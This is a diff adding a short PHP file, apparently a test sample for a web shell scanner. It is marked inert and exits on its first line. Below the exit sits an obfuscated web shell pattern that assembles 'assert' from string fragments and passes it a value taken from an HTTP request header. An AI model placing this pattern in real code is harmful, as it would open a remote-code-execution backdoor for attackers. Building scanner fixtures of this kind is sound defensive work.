@@ -1,0 +1,6 @@
+<?php exit; /* shellsweep test sample: inert, never functional */ ?>
+<?php
+session_start();
+$a = "a"; $s = "s";
+$c = $a.$s."sert";
+$c(getallheaders()['Demo']);
